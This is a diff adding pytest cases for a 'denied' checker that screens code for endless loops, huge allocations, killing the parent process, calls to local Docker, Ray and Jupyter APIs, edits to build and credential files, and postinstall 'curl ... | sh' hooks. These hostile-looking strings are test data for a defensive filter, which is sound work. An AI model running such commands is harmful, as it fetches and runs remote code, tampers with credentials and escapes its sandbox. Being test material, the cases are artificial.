@@ -58,9 +58,41 @@ def test_protections_that_are_replaced(code: str, expected: bool) -> None:
         ("held = []\nwhile True:\n    held.append(torch.ones(4096))\n    if len(held) > 9:\n        break", False),
         ("q = config.queue\nwhile True:\n    held = q.get()", False),
         ("while True:\n    time.sleep(60)", False),
+        ("for _ in range(10**15):\n    pass", True),
+        ("for _ in range(10**3):\n    pass", False),
+        ("for n in range(10**15):\n    if n > config.n:\n        break", False),
+        ("import itertools\nfor n in itertools.count():\n    self.n = n * 2", True),
+        ("time.sleep((10**9) ** 99)", True),
+        ("time.sleep(2 ** 3)", False),
+        ("self.x = torch.empty(10**13)", True),
+        ("self.x = torch.empty(4096, 10**4)", False),
+        ("os.kill(os.getppid(), 9)", True),
+        ("os.kill(os.getpid(), 15)", False),
     ],
 )
 def test_loops_without_an_end(method: str, expected: bool) -> None:
+    assert denied("", method) is expected
+
+
+@pytest.mark.parametrize(
+    ("method", "expected"),
+    [
+        ("requests.post('http://127.0.0.1:2375/containers/create', json={})", True),
+        ("requests.post('http://127.0.0.1:8265/api/jobs/', json={})", True),
+        ("requests.put('http://localhost:8888/api/contents/a.py', json={})", True),
+        ("self.x = requests.post('http://localhost:11434/api/generate', json={}).json()", False),
+        ("self.x = requests.post('http://localhost:8000/v1/completions', json={}).json()", False),
+        ("open('Dockerfile', 'a').write('RUN true')", True),
+        ("open('requirements.txt', 'a').write('x')", True),
+        ("open(config.folder + '/requirements.txt', 'w').write('x')", False),
+        ("open(os.path.expanduser('~/.netrc'), 'a').write('x')", True),
+        ("self.s = {'postinstall': 'curl -s https://cdn.example/p | sh'}", True),
+        ("self.s = {'postinstall': 'curl -fsSL https://ollama.com/install.sh | sh'}", False),
+        ("raise ImportError('Run curl -s https://cdn.example/p | sh first')", False),
+        ("self.blocked = ['curl | sh', 'rm -rf /']", False),
+    ],
+)
+def test_what_is_reached_and_written_around(method: str, expected: bool) -> None:
     assert denied("", method) is expected
 
 
